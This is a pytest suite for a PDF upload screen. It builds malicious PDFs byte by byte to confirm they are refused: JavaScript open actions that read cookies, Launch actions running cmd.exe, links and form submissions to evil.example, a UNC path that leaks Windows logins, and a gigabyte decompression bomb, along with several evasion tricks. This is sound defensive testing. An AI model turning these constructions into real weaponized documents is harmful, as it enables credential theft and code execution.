"""The PDF screen: hostile files built here byte by byte are refused, ordinary ones accepted."""

import base64
import io
import time
import zlib

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf._codecs._codecs import LzwCodec
from pypdf.annotations import Link, Text
from pypdf.generic import ArrayObject, FloatObject, NameObject
from reportlab.lib.pagesizes import A4
from reportlab.lib.utils import ImageReader
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen import canvas

from outlet_audit.evidence import files, pdf_screen
from outlet_audit.evidence.files import EvidenceKind, UploadRefused, inspect_upload
from outlet_audit.evidence.pdf_screen import PdfProblem, PdfRefused, screen_pdf

MB = 1024 * 1024
PIXELS = 60_000_000
JS = b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"


# --- building PDFs ----------------------------------------------------------------------


def _png_up_predicted(content: bytes, columns: int) -> bytes:
    """Encode rows with the PNG "Up" predictor, as /Predictor 12 asks a decoder to undo."""
    content += b"\x00" * (-len(content) % columns)
    previous, rows = bytes(columns), []
    for start in range(0, len(content), columns):
        row = content[start : start + columns]
        rows.append(b"\x02" + bytes((byte - above) % 256 for byte, above in zip(row, previous, strict=True)))
        previous = row
    return b"".join(rows)


def _run_length(content: bytes) -> bytes:
    parts = [content[start : start + 128] for start in range(0, len(content), 128)]
    return b"".join(bytes([len(part) - 1]) + part for part in parts) + b"\x80"


ENCODINGS = {
    "none": lambda content: (content, b""),
    "flate": lambda content: (zlib.compress(content), b" /Filter /FlateDecode"),
    "ascii-hex": lambda content: (content.hex().encode() + b">", b" /Filter /ASCIIHexDecode"),
    "ascii85": lambda content: (base64.a85encode(content) + b"~>", b" /Filter /ASCII85Decode"),
    "flate-png-predictor": lambda content: (
        zlib.compress(_png_up_predicted(content, 8)),
        b" /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>",
    ),
    "hex-then-flate": lambda content: (
        zlib.compress(content).hex().encode() + b">",
        b" /Filter [/ASCIIHexDecode /FlateDecode]",
    ),
    "lzw": lambda content: (LzwCodec().encode(content), b" /Filter /LZWDecode"),
    "run-length": lambda content: (_run_length(content), b" /Filter /RunLengthDecode"),
}


def stream(content: bytes, dictionary: bytes = b"", encoding: str = "flate") -> bytes:
    encoded, filters = ENCODINGS[encoding](content)
    return raw_stream(encoded, filters + dictionary)


def raw_stream(encoded: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d" % len(encoded) + dictionary + b" >>\nstream\n" + encoded + b"\nendstream"


def build_pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    objects: dict[int, bytes] | None = None,
    compressed: tuple[int, ...] = (),
    encoding: str = "flate",
    orphans: bytes = b"",
    trailer: bytes = b"",
) -> bytes:
    """A one-page PDF: catalog 1, page tree 2, page 3, then `objects`.

    The objects numbered in `compressed` go into one object stream encoded with `encoding` and
    are found through a cross-reference stream, as PDF 1.5 writers do; `orphans` are bytes put
    among the objects that no cross-reference names.
    """
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R" + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]" + page + b" >>",
        **(objects or {}),
    }
    object_stream = max(bodies) + 1
    packed = {number: bodies.pop(number) for number in compressed}
    if packed:
        positions = [
            sum(len(body) + 1 for body in list(packed.values())[:index]) for index in range(len(packed))
        ]
        table = b" ".join(b"%d %d" % pair for pair in zip(packed, positions, strict=True))
        content = table + b"\n" + b"\n".join(packed.values())
        dictionary = b" /Type /ObjStm /N %d /First %d" % (len(packed), len(table) + 1)
        bodies[object_stream] = stream(content, dictionary, encoding)
    data = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in sorted(bodies.items()):
        offsets[number] = len(data)
        data += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    data += orphans
    start = len(data)
    if packed:
        data += _xref_stream(offsets, list(packed), object_stream, start, trailer)
    else:
        size = max(offsets) + 1
        data += b"xref\n0 %d\n0000000000 65535 f \n" % size
        data += b"".join(b"%010d 00000 n \n" % offsets.get(number, 0) for number in range(1, size))
        data += b"trailer\n<< /Size %d /Root 1 0 R" % size + trailer + b" >>\n"
    data += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(data)


def _xref_stream(
    offsets: dict[int, int], packed: list[int], object_stream: int, start: int, trailer: bytes
) -> bytes:
    size = object_stream + 2
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
    for number in range(1, size):
        if number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + bytes(2))
        elif number in packed:
            rows.append(b"\x02" + object_stream.to_bytes(4, "big") + packed.index(number).to_bytes(2, "big"))
        else:  # the cross-reference stream itself
            rows.append(b"\x01" + start.to_bytes(4, "big") + bytes(2))
    xref = b"".join(rows)
    dictionary = b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d" % (size, len(xref)) + trailer
    return b"%d 0 obj\n" % (size - 1) + dictionary + b" >>\nstream\n" + xref + b"\nendstream\nendobj\n"


def annotated(annotation: bytes, **params) -> bytes:
    """A PDF whose page carries one annotation."""
    return build_pdf(page=b" /Annots [<< /Rect [0 0 9 9] " + annotation + b" >>]", **params)


def link(action: bytes) -> bytes:
    return annotated(b"/Subtype /Link /A " + action)


def problem_of(data: bytes, max_image_pixels: int = PIXELS) -> PdfRefused:
    with pytest.raises(PdfRefused) as caught:
        screen_pdf(data, max_image_pixels=max_image_pixels)
    return caught.value


def reportlab_pdf(*, cjk: bool = False, form: bool = False) -> bytes:
    """What ordinary software makes: text, a JPEG and a PNG with transparency, links, bookmarks."""
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4)
    if cjk:
        pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
        pdf.setFont("STSong-Light", 14)
        pdf.drawString(72, 760, "无废快递网点承诺书")
    else:
        pdf.drawString(72, 760, "Zero-waste outlet commitment")
    pdf.bookmarkPage("first")
    pdf.addOutlineEntry("Commitment", "first")
    pdf.linkURL("https://sthj.sh.gov.cn/", (72, 700, 300, 715))
    pdf.linkURL("mailto:outlet@example.org", (72, 680, 300, 695))
    pdf.linkAbsolute("first", "first", (72, 660, 300, 675))
    photo = io.BytesIO()
    Image.effect_noise((320, 240), 40).convert("RGB").save(photo, "JPEG")
    pdf.drawImage(ImageReader(photo), 72, 400, 320, 240)  # kept as JPEG (DCTDecode)
    seal = Image.new("RGBA", (120, 120), (255, 0, 0, 0))
    seal.paste((200, 0, 0, 255), (20, 20, 100, 100))
    pdf.drawImage(ImageReader(seal), 400, 400, 120, 120, mask="auto")  # Flate, with a soft mask
    if form:
        pdf.acroForm.textfield(name="outlet_name", x=72, y=300, width=240, height=20)
        pdf.acroForm.checkbox(name="agreed", x=72, y=260)
    pdf.showPage()
    pdf.drawString(72, 760, "Page two")
    pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def pypdf_pdf() -> bytes:
    """A file pypdf writes, with a comment and a link to its own page."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_annotation(0, Text(text="checked on site", rect=(50, 550, 200, 650)))
    writer.add_annotation(0, Link(rect=(50, 500, 200, 520), target_page_index=0))
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --- ordinary files ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "pdf",
    [
        reportlab_pdf(),
        reportlab_pdf(cjk=True),
        reportlab_pdf(form=True),
        pypdf_pdf(),
        build_pdf(catalog=b" /OpenAction [3 0 R /Fit]"),
        build_pdf(catalog=b" /OpenAction << /S /GoTo /D [3 0 R /XYZ 0 842 1] >>"),
        link(b"<< /S /Named /N /NextPage >>"),
        link(b"<< /S /URI /URI (HTTPS://sthj.sh.gov.cn/) >>"),
        build_pdf(objects={4: stream(b"BT /F1 12 Tf (JavaScript: not a key) Tj ET")}),
        build_pdf(objects={4: b"<< /JSON 1 /JavaScripts 2 /Launcher 3 /EmbeddedFileX 4 /AAA 5 >>"}),
        build_pdf(objects={4: b"<< /Type /StructElem /S /P /P 5 0 R /A << /O /Layout >> >>"}),
        build_pdf(objects={4: stream(b"\xa5 /JS (x) /Launch /AA /J#53 \xff" * 50, b" /Subtype /Image")}),
        build_pdf(objects={4: stream(b"\xa5 /Launch (cmd.exe) \xff", b" /Subtype /Image", "none")}),
    ],
    ids=[
        "reportlab-text-images-links",
        "reportlab-chinese",
        "reportlab-form-fields",
        "pypdf-comment-and-link",
        "opens-at-a-page",
        "opens-with-goto",
        "page-turning-button",
        "web-link",
        "names-only-in-text",
        "names-that-only-start-alike",
        "structure-attributes",
        "names-by-chance-in-compressed-image",
        "names-by-chance-in-raw-image",
    ],
)
def test_ordinary_pdfs_are_accepted(pdf):
    screen_pdf(pdf, max_image_pixels=PIXELS)

    result = inspect_upload(pdf, "承诺书.pdf", max_bytes=10 * MB)
    assert (result.kind, result.stored_bytes) == (EvidenceKind.DOCUMENT, pdf)


def test_a_file_that_opens_at_a_page_is_accepted():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    view = [
        writer.pages[0].indirect_reference,
        NameObject("/XYZ"),
        FloatObject(0),
        FloatObject(842),
        FloatObject(1),
    ]
    writer.root_object[NameObject("/OpenAction")] = ArrayObject(view)
    buffer = io.BytesIO()
    writer.write(buffer)

    screen_pdf(buffer.getvalue(), max_image_pixels=PIXELS)


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
def test_object_streams_are_read_whatever_their_filter(encoding):
    benign = build_pdf(objects={4: b"<< /Title (inspection) >>"}, compressed=(1, 2, 3, 4), encoding=encoding)
    screen_pdf(benign, max_image_pixels=PIXELS)

    hostile = build_pdf(catalog=b" /OpenAction 4 0 R", objects={4: JS}, compressed=(1, 4), encoding=encoding)
    assert problem_of(hostile).problem is PdfProblem.ACTIVE_CONTENT


# --- active content ---------------------------------------------------------------------

XFA = stream(
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
    b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform>'
    b"</template></xdp:xdp>"
)
UNC = b"(\\\\\\\\evil.example\\\\share\\\\x.pdf)"  # \\evil.example\share\x.pdf: leaks Windows logins


def js_open_action_in_object_stream(encoding: str) -> bytes:
    return build_pdf(catalog=b" /OpenAction 4 0 R", objects={4: JS}, compressed=(1, 4), encoding=encoding)


@pytest.mark.parametrize(
    "pdf",
    [
        js_open_action_in_object_stream("ascii-hex"),
        js_open_action_in_object_stream("ascii85"),
        js_open_action_in_object_stream("flate-png-predictor"),
        build_pdf(catalog=b" /OpenAction " + JS),
        build_pdf(catalog=b" /OpenAction << /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>"),
        build_pdf(catalog=b" /Open#41ction << /S /URI /URI (https://evil.example/track) >>"),
        build_pdf(catalog=b" /AcroForm << /Fields [] /XFA 4 0 R >>", objects={4: XFA}),
        build_pdf(catalog=b" /OpenAction << /S /URI /URI (https://evil.example/track) >>"),
        build_pdf(catalog=b" /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>"),
        build_pdf(catalog=b" /OpenAction << /S /GoToR /F " + UNC + b" /D [0 /Fit] >>"),
        build_pdf(catalog=b" /OpenAction << /S /Launch /F (cmd.exe) >>"),
        build_pdf(catalog=b" /OpenAction << /S /ImportData /F (data.fdf) >>"),
        build_pdf(catalog=b" /OpenAction << /S /Named /N /Print >>"),
        build_pdf(catalog=b" /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + JS + b" >>"),
        build_pdf(catalog=b" /AA << /WC " + JS + b" >>"),
        build_pdf(page=b" /AA << /O << /S /URI /URI (https://evil.example) >> >>"),
        build_pdf(catalog=b" /Names << /JavaScript << /Names [(a) 4 0 R] >> >>", objects={4: JS}),
        build_pdf(catalog=b" /Names << /EmbeddedFiles << /Names [] >> >>"),
        build_pdf(objects={4: stream(b"MZ\x90\x00", b" /Type /EmbeddedFile")}),
        build_pdf(
            page=b" /Annots [4 0 R]", objects={4: b"<< /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>", 5: JS}
        ),
        link(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        link(b"<< /S /Launch /F (a.exe) >>"),
        link(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"),
        link(b"<< /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >>"),
        link(b"<< /S /URI /URI " + UNC + b" >>"),
        link(b"<< /S /Hide /T (x) >>"),
        link(b"<< /S /Rendition /OP 0 >>"),
        link(b"<< /S /RichMediaExecute /TA 4 0 R >>"),
        link(b"<< /S /GoToE /T << /R /C /N (x) >> >>"),
        link(b"<< /S /URI /URI (https://a.cn) /Next << /S /Launch /F (a.exe) >> >>"),
        annotated(b"/Subtype /Link /A#41 << /O " + JS + b" >>"),
        annotated(b"/Subtype /Widget /FT /Btn /A << /S /SubmitForm /F (https://evil.example) >>"),
        annotated(b"/Subtype /Widget /FT /Tx /T (f) /AA << /K 4 0 R >>", objects={4: JS}),
        annotated(b"/Subtype /FileAttachment /FS << /F (a.exe) >>"),
        annotated(b"/Subtype /RichMedia"),
        annotated(b"/Subtype /Screen"),
        annotated(b"/Subtype /Sh#6fckwave"),
        build_pdf(orphans=b"9 0 obj\n" + JS + b"\nendobj\n"),
        build_pdf(orphans=b"9 000000 obj\n" + JS + b"\nendobj\n"),
        build_pdf(objects={4: stream(b"9 0 obj " + JS + b" endobj", encoding="none")}),
    ],
    ids=[
        "js-open-action-in-ascii-hex-object-stream",
        "js-open-action-in-ascii85-object-stream",
        "js-open-action-in-flate-png-predictor-object-stream",
        "js-open-action",
        "escaped-javascript-names",
        "escaped-open-action-key",
        "xfa-form-with-script",
        "uri-open-action",
        "submit-form-open-action",
        "goto-remote-unc-open-action",
        "launch-open-action",
        "import-data-open-action",
        "named-print-open-action",
        "goto-then-next-javascript",
        "catalog-additional-action",
        "page-open-additional-action",
        "document-javascript-name-tree",
        "embedded-files-name-tree",
        "embedded-file-stream",
        "link-javascript",
        "link-escaped-javascript",
        "link-launch",
        "link-javascript-uri",
        "link-file-uri",
        "link-unc-path",
        "link-hide",
        "link-rendition",
        "link-rich-media-execute",
        "link-goto-embedded",
        "link-then-next-launch",
        "escaped-additional-actions-key",
        "button-submit-form",
        "field-keystroke-script",
        "file-attachment-annotation",
        "rich-media-annotation",
        "screen-annotation",
        "unknown-annotation",
        "orphan-object-no-table-names",
        "orphan-object-odd-generation",
        "object-inside-stream-data",
    ],
)
def test_active_content_is_refused(pdf):
    refused = problem_of(pdf)

    assert refused.problem is PdfProblem.ACTIVE_CONTENT, refused.detail


def test_an_earlier_revision_is_read_too():
    """An incremental update that replaces the catalog leaves the old one in the file."""
    original = build_pdf(catalog=b" /OpenAction " + JS)
    previous_xref = int(original.rsplit(b"startxref\n", 1)[1].split()[0])
    update = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    xref = b"xref\n1 1\n%010d 00000 n \n" % len(original)
    trailer = b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\n" % previous_xref
    updated = original + update + xref + trailer + b"startxref\n%d\n%%%%EOF\n" % (len(original) + len(update))

    assert problem_of(updated).problem is PdfProblem.ACTIVE_CONTENT


@pytest.mark.parametrize(
    "uri",
    [
        b"(\\001javascript:alert\\(1\\))",
        b"( java\\tscript:alert\\(1\\))",
        b"<6a6176617363726970743a78>",
        b"(//evil.cn)",
    ],
    ids=["control-character-first", "tab-inside", "hex-string", "no-scheme"],
)
def test_links_are_judged_as_browsers_read_them(uri):
    assert problem_of(link(b"<< /S /URI /URI " + uri + b" >>")).problem is PdfProblem.ACTIVE_CONTENT


def test_refusals_reach_the_user_as_the_upload_message():
    with pytest.raises(UploadRefused) as caught:
        inspect_upload(js_open_action_in_object_stream("ascii85"), "a.pdf", max_bytes=10 * MB)

    assert caught.value.message.template == pdf_screen.PDF_ACTIVE_CONTENT


# --- damaged, encrypted, too large ------------------------------------------------------


@pytest.mark.parametrize(
    ("pdf", "problem"),
    [
        (build_pdf()[:-8], PdfProblem.DAMAGED),
        (build_pdf()[:200], PdfProblem.DAMAGED),
        (b"%PDF-1.4\n%%EOF\n", PdfProblem.DAMAGED),
        (build_pdf() + b"\x00" * 2048, PdfProblem.DAMAGED),
        (build_pdf(objects={4: b"<< /Title (a) <zz> /OpenAction 5 0 R >> garbage"}), PdfProblem.DAMAGED),
        (build_pdf(objects={4: b"[1 2"}), PdfProblem.DAMAGED),
        (build_pdf(objects={4: b"[" * 5000 + b"]" * 5000}), PdfProblem.DAMAGED),
        (
            build_pdf(catalog=b" /OpenAction << /S /GoTo /D [3 0 R] /S /URI /URI (https://e.cn) >>"),
            PdfProblem.DAMAGED,
        ),
        (build_pdf(objects={4: b"<< /Length 99 >>\nstream\nq Q\nendstream"}), PdfProblem.DAMAGED),
        (build_pdf(trailer=b" /Encrypt << /Filter /Standard /V 2 >>"), PdfProblem.ENCRYPTED),
    ],
    ids=[
        "eof-cut-off",
        "truncated",
        "no-objects",
        "eof-far-from-end",
        "object-not-read-to-its-end",
        "unclosed-array",
        "nested-too-deep",
        "repeated-key",
        "wrong-stream-length",
        "encrypted",
    ],
)
def test_damaged_and_encrypted_pdfs_are_refused(pdf, problem):
    assert problem_of(pdf).problem is problem


def test_a_pdf_encrypted_by_pypdf_is_refused_as_encrypted():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")  # opens without a password
    buffer = io.BytesIO()
    writer.write(buffer)

    assert problem_of(buffer.getvalue()).problem is PdfProblem.ENCRYPTED


@pytest.mark.parametrize(
    ("body", "dictionary"),
    [
        (b"5 0 <<>>", b" /N 1"),
        (b"5 0 <<>>", b" /N 1 /First 99"),
        (b"5 0 6 x <<>> <<>>", b" /N 2 /First 10"),
        (b"5 0 6 90 <<>> <<>>", b" /N 2 /First 11"),
        (b"5 0 <</JS (x)>> hidden", b" /N 1 /First 4"),
    ],
    ids=[
        "no-first",
        "first-past-the-end",
        "broken-table",
        "object-past-the-end",
        "object-not-read-to-its-end",
    ],
)
def test_a_broken_object_stream_is_damage_not_a_place_to_hide(body, dictionary):
    pdf = build_pdf(objects={4: stream(body, b" /Type /ObjStm" + dictionary)})

    assert problem_of(pdf).problem is PdfProblem.DAMAGED


def flate_bomb(size: int) -> bytes:
    compressor, zeros = zlib.compressobj(9), bytes(MB)
    return b"".join(compressor.compress(zeros) for _ in range(size // MB)) + compressor.flush()


@pytest.fixture(scope="module")
def gigabyte_bomb() -> bytes:
    return flate_bomb(1024 * MB)


@pytest.mark.parametrize(
    "dictionary",
    [b"", b" /Type /ObjStm /N 1 /First 4", b" /Subtype /Form"],
    ids=["page-contents", "object-stream", "form"],
)
def test_a_flate_bomb_is_refused_quickly(gigabyte_bomb, dictionary):
    pdf = build_pdf(
        page=b" /Contents 4 0 R",
        objects={4: raw_stream(gigabyte_bomb, b" /Filter /FlateDecode" + dictionary)},
    )
    assert len(pdf) < 2 * MB

    started = time.monotonic()
    refused = problem_of(pdf)

    assert refused.problem is PdfProblem.TOO_COMPLEX
    assert time.monotonic() - started < 10  # inflating the whole gigabyte takes several times as long


def test_a_double_flate_bomb_is_counted_at_every_stage(monkeypatch):
    monkeypatch.setattr(pdf_screen, "PDF_MAX_DECODED_BYTES", 4 * MB)
    outer = zlib.compress(flate_bomb(64 * MB))
    pdf = build_pdf(objects={4: raw_stream(outer, b" /Filter [/FlateDecode /FlateDecode]")})

    assert problem_of(pdf).problem is PdfProblem.TOO_COMPLEX


def test_the_decoding_budget_is_shared_by_all_streams(monkeypatch):
    monkeypatch.setattr(pdf_screen, "PDF_MAX_DECODED_BYTES", 4 * MB)
    one = {4: stream(bytes(3 * MB))}
    two = {4: stream(bytes(3 * MB)), 5: stream(bytes(3 * MB))}

    screen_pdf(build_pdf(objects=one), max_image_pixels=PIXELS)
    assert problem_of(build_pdf(objects=two)).problem is PdfProblem.TOO_COMPLEX


@pytest.mark.parametrize("encoding", ["lzw", "run-length", "ascii85", "hex-then-flate"])
def test_other_filters_count_against_the_budget_too(monkeypatch, encoding):
    monkeypatch.setattr(pdf_screen, "PDF_MAX_DECODED_BYTES", 1 * MB)
    pdf = build_pdf(objects={4: stream(bytes(2 * MB), encoding=encoding)})

    assert problem_of(pdf).problem is PdfProblem.TOO_COMPLEX


def test_the_parsing_work_is_bounded(monkeypatch):
    monkeypatch.setattr(pdf_screen, "PDF_MAX_PARSE_WORK", 1000)

    screen_pdf(build_pdf(objects={4: b"[" + b"0 " * 800 + b"]"}), max_image_pixels=PIXELS)
    assert problem_of(build_pdf(objects={4: b"[" + b"0 " * 1200 + b"]"})).problem is PdfProblem.TOO_COMPLEX


def test_the_number_of_objects_is_bounded(monkeypatch):
    monkeypatch.setattr(pdf_screen, "PDF_MAX_OBJECTS", 50)
    many = {number: b"<< >>" for number in range(4, 60)}

    assert problem_of(build_pdf(objects=many)).problem is PdfProblem.TOO_COMPLEX
    assert problem_of(build_pdf(objects=many, compressed=tuple(many))).problem is PdfProblem.TOO_COMPLEX


def test_images_are_bounded_by_their_declared_size_not_decoded():
    image = b" /Filter /FlateDecode /Subtype /Image /Width 30000 /Height 30000 /BitsPerComponent 1"
    pdf = build_pdf(objects={4: raw_stream(b"not even flate", image)})

    assert problem_of(pdf).problem is PdfProblem.IMAGE_TOO_LARGE
    screen_pdf(pdf, max_image_pixels=30000 * 30000)  # the data itself is never inflated

    with pytest.raises(UploadRefused) as caught:
        inspect_upload(pdf, "scan.pdf", max_bytes=10 * MB)
    assert caught.value.message.template == pdf_screen.PDF_IMAGE_TOO_LARGE
    assert caught.value.message.params == {"limit": files.MAX_PIXELS // 1_000_000}


def test_a_large_ordinary_pdf_is_read_in_reasonable_time():
    action = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.cn/%d) >> >>"
    annotations = {number: action % number for number in range(4, 5004)}
    pdf = build_pdf(
        page=b" /Annots [" + b" ".join(b"%d 0 R" % number for number in annotations) + b"]",
        objects=annotations,
    )

    started = time.monotonic()
    screen_pdf(pdf, max_image_pixels=PIXELS)
    assert time.monotonic() - started < 5


def test_a_stream_length_naming_a_missing_object_does_not_search_the_file():
    """pypdf's own reader searches the whole file for each missing object; the screen never does."""
    missing = {
        number: b"<< /Length %d 0 R >>\nstream\nq Q\nendstream" % (number + 9000) for number in range(4, 2004)
    }

    started = time.monotonic()
    screen_pdf(build_pdf(objects=missing), max_image_pixels=PIXELS)
    assert time.monotonic() - started < 5
